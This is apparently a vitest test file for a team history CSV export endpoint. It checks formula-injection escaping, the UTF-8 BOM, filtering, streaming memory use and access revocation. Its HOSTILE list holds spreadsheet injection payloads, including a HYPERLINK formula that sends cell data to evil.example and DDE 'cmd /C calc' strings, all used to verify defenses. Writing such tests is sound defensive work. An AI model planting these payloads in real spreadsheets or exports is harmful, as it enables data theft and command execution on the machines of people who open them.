import { execFileSync } from "node:child_process";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { expect, test } from "vitest";
import { GET as EXPORT } from "@/app/api/app/[team]/history.csv/route";
import { poolOf } from "@/lib/data/pool";
import type { Provisioned } from "@/lib/services/provisioning/provision";
import { arrangeTeam, callHandler, signInCookie } from "../support/arrange";
import { arrangeClosed } from "../support/closed";

// Memory that nobody holds any more must not count: what is measured is what the export holds on to.
setFlagsFromString("--expose-gc");
const collectGarbage = runInNewContext("gc") as () => void;

const MIB = 1024 * 1024;
const ROWS = 20_000;

async function exportOf(team: Provisioned, query = ""): Promise<Response> {
  const path = `/api/app/${team.team_slug}/history.csv${query}`;
  const headers = { cookie: await signInCookie(team.user_id) };
  const answer = await callHandler(EXPORT, path, { params: { team: team.team_slug }, headers });
  expect(answer.status, answer.status === 200 ? "" : await answer.clone().text()).toBe(200);
  return answer;
}

/** As a program of another maker reads it: Python's csv module, told nothing but that it is UTF-8. */
function byPython(csv: Uint8Array): Record<string, string>[] {
  const program = `import csv, io, json, sys
text = io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8-sig", newline="")
json.dump(list(csv.DictReader(text, strict=True)), sys.stdout)`;
  return JSON.parse(execFileSync("python3", ["-c", program], { input: csv, encoding: "utf8" }));
}

/** What an agent may have written, and what must not become of it. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
  "\ttab first",
  "\rreturn first",
  "＝1+1",
  "x;=1+cmd|' /C calc'!A0",
  'x; "=1+1";\t@SUM(1)',
  "a|+1,-2\n- 3",
  "x;'=already kept;''twice",
  "\t'=both",
  " =after a space",
  "'=already kept from running",
  'Says "yes", and\nthen no;\r\nthree lines',
  "  spaces, kept  ",
  "Größe 寸法 🙂 \u202Eevil",
  "",
];

// What leaves the house as a file must be what was stored, and must do nothing when it is opened, wherever a
// spreadsheet believes that a cell ends: at a semicolon in half of Europe, whatever is quoted.
test("Python reads back exactly what was stored; no cell begins as a formula would, nor any part of one", async () => {
  const team = await arrangeTeam();
  const copies = HOSTILE.map((text, n) => ({
    headline: text || "blank",
    decision_note: text === "" ? null : text,
    decided_by_name: text || "nobody",
    external_id: `ext-${n}`,
    key_fact: n % 2 ? "$1,240.00" : null,
  }));
  await arrangeClosed(team, copies);
  const bytes = new Uint8Array(await (await exportOf(team)).arrayBuffer());
  for (const part of new TextDecoder().decode(bytes).split(/[;,|\t\r\n]/))
    expect(part).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
  const rows = byPython(bytes);
  expect(rows).toHaveLength(HOSTILE.length);
  for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  const stored = await poolOf("ha_system").query(
    `SELECT id, headline AS title, decision_note AS note, decided_by_name AS decided_by, external_id, key_fact AS key_amount
     FROM requests WHERE team_id = $1 AND status <> 'pending'`,
    [team.team_id],
  );
  const withoutApostrophe = (text = "") => text.replace(/(?<=(?:^|[;,|\t\r\n])[\s"]*)'/g, "");
  const byId = new Map(rows.map((row) => [row.id, row]));
  for (const { id, ...columns } of stored.rows) {
    const row = byId.get(id);
    for (const [name, value] of Object.entries(columns))
      expect([name, withoutApostrophe(row?.[name])]).toEqual([name, value ?? ""]);
  }
});

test("the file is named after team and day, says that it is UTF-8, and obeys the filter", async () => {
  const team = await arrangeTeam();
  await arrangeClosed(team, [{ headline: "yes" }, { headline: "no", status: "rejected" }]);
  const answer = await exportOf(team, "?status=rejected");
  const day = new Date().toISOString().slice(0, 10);
  expect(answer.headers.get("content-disposition")).toBe(`attachment; filename="history-${team.team_slug}-${day}.csv"`);
  const bytes = new Uint8Array(await answer.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(byPython(bytes).map(({ title }) => title)).toEqual(["no"]);
});

// A million rows must not be a million rows in memory: what is held is the page that is being written.
test(`${ROWS} rows are exported, each once, and memory does not grow with them`, async () => {
  const team = await arrangeTeam();
  const note = "n".repeat(2_000);
  for (let batch = 0; batch < 4; batch++) {
    await arrangeClosed(
      team,
      Array.from({ length: ROWS / 4 }, (_, n) => ({ headline: `row ${n}`, decision_note: note })),
    );
  }
  const answer = await exportOf(team);
  const reader = answer.body?.getReader();
  if (!reader) throw new Error("there is no body");
  let bytes = 0;
  let lines = 0;
  let pieces = 0;
  let peak = 0;
  const held = () => process.memoryUsage().heapUsed + process.memoryUsage().external;
  collectGarbage();
  const before = held();
  for (let read = await reader.read(); !read.done; read = await reader.read()) {
    bytes += read.value.byteLength;
    pieces += 1;
    for (const byte of read.value) if (byte === 10) lines += 1;
    collectGarbage();
    peak = Math.max(peak, held() - before);
  }
  console.log(
    `${ROWS} rows, ${(bytes / MIB).toFixed(1)} MiB in ${pieces} pieces; held at most ${(peak / MIB).toFixed(1)} MiB more`,
  );
  expect(lines).toBe(ROWS + 1);
  expect(bytes).toBeGreaterThan(40 * MIB * 0.9);
  expect(pieces).toBeGreaterThanOrEqual(ROWS / 1_000);
  // A few pages, where all rows would be as much as the file and more.
  expect(peak).toBeLessThan(20 * MIB);
});

// Half a file must not look like a whole one, and whoever has left takes nothing more along.
test("a reader who is removed while it is written gets no more, and the connection is cut", async () => {
  const team = await arrangeTeam();
  await arrangeClosed(
    team,
    Array.from({ length: 2_500 }, () => ({})),
  );
  const answer = await exportOf(team);
  const reader = answer.body?.getReader();
  if (!reader) throw new Error("there is no body");
  await reader.read();
  await poolOf("ha_system").query("DELETE FROM memberships WHERE user_id = $1", [team.user_id]);
  await expect(reader.read()).rejects.toThrow("may not read");
});
